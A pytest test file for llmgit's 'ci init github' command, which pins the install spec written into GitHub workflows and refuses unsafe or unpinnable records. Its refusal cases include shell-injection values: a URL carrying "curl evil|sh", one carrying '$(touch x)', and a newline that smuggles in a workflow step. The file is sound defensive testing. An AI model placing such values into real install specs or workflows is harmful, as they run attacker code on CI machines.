"""ci init github installs llmgit from where the running llmgit came from, pinned (PEP 610
``direct_url.json`` of its distribution: a git commit, or an archive with its sha256), or
from --install-spec; it refuses, writing nothing, when it cannot tell. Each install kind is a
real dist-info directory in a temporary site, read through importlib.metadata."""

from __future__ import annotations

import base64
import hashlib
import importlib.metadata
import json
import shlex
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import run_cli, snapshot
from hypothesis import given, settings
from hypothesis import strategies as st

from llmgit.core import direct_url
from llmgit.core.bounded import BoundError
from llmgit.errors import UsageError
from llmgit.setup.ci import init_github, install_spec
from llmgit.store.store import Store

COMMIT = "3f786850e387550fdab836ed7e6dc881de23001b"
SHA256 = "f2cbd7e57444c8942d842cf5713191c2c82b201c94132339ca817d567b595bfc"
WHEEL = "https://files.pythonhosted.org/packages/ab/cd/llmgit-0.1.0-py3-none-any.whl"


def dist_info(site: Path, record: dict[str, Any] | str | None) -> importlib.metadata.Distribution:
    """An installed llmgit 0.1.0 in ``site``, with ``record`` as its direct_url.json (None: none,
    as an install from a package index leaves it), listed in RECORD as pip lists it."""
    info = site / "llmgit-0.1.0.dist-info"
    info.mkdir(parents=True)
    files = {"METADATA": "Metadata-Version: 2.1\nName: llmgit\nVersion: 0.1.0\n", "INSTALLER": "pip\n"}
    if record is not None:
        files[direct_url.FILE] = record if isinstance(record, str) else json.dumps(record)
    lines = []
    for name, text in files.items():
        (info / name).write_text(text)
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        lines.append(f"{info.name}/{name},sha256={digest},{len(text.encode())}")
    (info / "RECORD").write_text("\n".join([*lines, f"{info.name}/RECORD,,"]) + "\n")
    return importlib.metadata.PathDistribution(info)


def vcs(url: str, commit: str = COMMIT, tool: str = "git") -> dict[str, Any]:
    return {"url": url, "vcs_info": {"vcs": tool, "requested_revision": "main", "commit_id": commit}}


def archive(url: str, sha: str | None = SHA256) -> dict[str, Any]:
    info: dict[str, Any] = {"hash": f"sha256={sha}", "hashes": {"sha256": sha}} if sha else {"hash": "md5=" + "0" * 32}
    return {"url": url, "archive_info": info}


def install_line(workflow: str) -> str:
    steps = next(iter(yaml.safe_load(workflow)["jobs"].values()))["steps"]
    run: str = next(s for s in steps if s.get("name") == "Install llmgit")["run"]
    return run.strip()


PINNED = [
    pytest.param(
        vcs("https://github.com/acme/llmgit.git"),
        f"llmgit @ git+https://github.com/acme/llmgit.git@{COMMIT}",
        id="git-https-commit",
    ),
    pytest.param(
        vcs("ssh://git@git.example.com/ml/llmgit.git", "a" * 64),
        f"llmgit @ git+ssh://git@git.example.com/ml/llmgit.git@{'a' * 64}",
        id="git-ssh-sha256-object-name",
    ),
    pytest.param(archive(WHEEL), f"llmgit @ {WHEEL}#sha256={SHA256}", id="index-wheel-with-sha256"),
    pytest.param(
        {"url": WHEEL, "archive_info": {"hash": f"sha256={SHA256}"}},
        f"llmgit @ {WHEEL}#sha256={SHA256}",
        id="index-wheel-legacy-hash-field",
    ),
]


@pytest.mark.parametrize(("record", "requirement"), PINNED)
def test_a_pinnable_install_is_pinned(tmp_path: Path, record: dict[str, Any], requirement: str) -> None:
    spec = install_spec(dist_info(tmp_path / "site", record))
    assert shlex.split(spec) == [requirement]  # one shell word, exactly the requirement


def test_ci_init_writes_the_vcs_install_line(registry_repo: Path, tmp_path: Path) -> None:
    dist = dist_info(tmp_path / "site", vcs("https://github.com/acme/llmgit.git"))
    files = init_github(Store(registry_repo), dist=dist)
    expected = f"python -m pip install 'llmgit @ git+https://github.com/acme/llmgit.git@{COMMIT}'"
    assert {p.name: install_line(p.read_text()) for p in files.written} == {
        "llmgit-review.yml": expected,
        "llmgit-sync.yml": expected,
    }
    assert files.install == f"'llmgit @ git+https://github.com/acme/llmgit.git@{COMMIT}'"


REFUSED = [
    pytest.param({"url": "file:///work/llmgit", "dir_info": {"editable": True}}, "an editable install", id="editable"),
    pytest.param({"url": "file:///work/llmgit", "dir_info": {}}, "from a local directory", id="local-dir"),
    pytest.param(archive("file:///tmp/dist/llmgit-0.1.0-py3-none-any.whl"), "local path", id="local-wheel"),
    pytest.param(vcs("file:///home/ada/llmgit"), "local path", id="git-local-clone"),
    pytest.param(vcs("https://hg.example.com/llmgit", tool="hg"), "only git is pinned", id="mercurial"),
    pytest.param(vcs("http://github.com/acme/llmgit.git"), "scheme 'http:'", id="git-plain-http"),
    pytest.param(vcs("https://ghp_token@github.com/acme/llmgit.git"), "credentials", id="token-in-url"),
    pytest.param(archive(WHEEL, sha=None), "no recorded sha256", id="wheel-md5-only"),
    pytest.param(None, "records no direct_url.json", id="package-index"),
    pytest.param(vcs("https://github.com/acme/llmgit.git", commit="main"), "40 or 64 hex", id="branch-not-commit"),
    pytest.param(vcs("https://github.com/a/b.git", commit=COMMIT.upper()), "40 or 64 hex", id="upper-hex"),
    pytest.param(vcs("https://github.com/a/$(touch x).git"), "may not", id="shell-in-url"),
    pytest.param(vcs("https://github.com/a/b.git' ; curl evil|sh #"), "may not", id="quote-in-url"),
    pytest.param(vcs("https://github.com/a/b.git\n- run: x"), "may not", id="newline-in-url"),
    pytest.param(archive(WHEEL + "?token=x"), "no query", id="query-in-url"),
    pytest.param({"url": WHEEL, **archive(WHEEL), **vcs(WHEEL)}, "exactly one of", id="two-kinds"),
    pytest.param("not json {", "not valid JSON", id="not-json"),
    pytest.param(json.dumps(vcs("https://github.com/a/b.git")) + " " * 20_000, "above the limit", id="oversize"),
    pytest.param("[]", "JSON object", id="a-list"),
]


@pytest.mark.parametrize(("record", "reason"), REFUSED)
def test_an_install_that_cannot_be_pinned_is_refused(tmp_path: Path, record: Any, reason: str) -> None:
    with pytest.raises(UsageError) as raised:
        install_spec(dist_info(tmp_path / "site", record))
    assert raised.value.message.startswith("cannot tell where this llmgit was installed from")
    assert reason in raised.value.message
    assert raised.value.hint is not None and "--install-spec" in raised.value.hint


def test_refused_before_anything_is_written(registry_repo: Path, tmp_path: Path) -> None:
    before = snapshot(registry_repo)
    dist = dist_info(tmp_path / "site", {"url": "file:///work/llmgit", "dir_info": {"editable": True}})
    with pytest.raises(UsageError):
        init_github(Store(registry_repo), dist=dist)
    assert snapshot(registry_repo) == before and not (registry_repo / ".github").exists()


def test_the_explicit_option_wins_over_an_unpinnable_install(registry_repo: Path, tmp_path: Path) -> None:
    dist = dist_info(tmp_path / "site", {"url": "file:///work/llmgit", "dir_info": {"editable": True}})
    spec = f"'llmgit @ git+https://git.example.com/ml/llmgit@{COMMIT}'"
    files = init_github(Store(registry_repo), install=spec, dist=dist)
    assert {install_line(p.read_text()) for p in files.written} == {f"python -m pip install {spec}"}


def test_cli_refuses_this_editable_install_and_names_the_option(registry_repo: Path) -> None:
    # the test environment runs llmgit as an editable install: its real direct_url.json says so
    assert json.loads(importlib.metadata.distribution("llmgit").read_text("direct_url.json") or "{}")["dir_info"]
    before = snapshot(registry_repo)
    result = run_cli(registry_repo, "ci", "init", "github")
    assert result.code == 2
    lines = result.err.splitlines()
    assert lines[0].startswith("error: cannot tell where this llmgit was installed from") and "editable" in lines[0]
    assert lines[1] == (
        "hint: pass what the workflows should pip-install (shell words), "
        "e.g. --install-spec git+https://HOST/OWNER/llmgit@COMMIT"
    )
    assert snapshot(registry_repo) == before and not (registry_repo / ".github").exists()
    empty = run_cli(registry_repo, "ci", "init", "github", "--install-spec", " ")
    assert empty.code == 2 and "error: --install-spec must not be empty" in empty.err
    spec = f"llmgit @ git+https://git.example.com/ml/llmgit@{COMMIT}"
    done = run_cli(registry_repo, "ci", "init", "github", "--install-spec", shlex.quote(spec))
    assert done.code == 0, done.err
    assert f"They install: {shlex.quote(spec)}" in done.err
    sync = (registry_repo / ".github" / "workflows" / "llmgit-sync.yml").read_text()
    assert shlex.split(install_line(sync)) == ["python", "-m", "pip", "install", spec]


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=80),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
    max_leaves=12,
)
KEYS = st.sampled_from(["url", "vcs_info", "archive_info", "dir_info", "vcs", "commit_id", "hashes", "sha256"])
URLS = st.sampled_from(["https://github.com/a/b.git", "ssh://git@h/x", WHEEL, "file:///x", "https://h/a b"])


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(KEYS, JSON | URLS | st.dictionaries(KEYS, JSON | st.just("git") | st.just(COMMIT), max_size=3)))
def test_the_parser_returns_a_safe_pin_or_refuses(data: dict[str, Any]) -> None:
    try:
        found = direct_url.parse(json.dumps(data))
    except (BoundError, direct_url.Unpinnable):
        return
    requirement = found.requirement("llmgit")
    assert shlex.split(shlex.quote(requirement)) == [requirement]
    assert "${{" not in requirement and "\n" not in requirement
    assert found.url.startswith(("https://", "ssh://"))
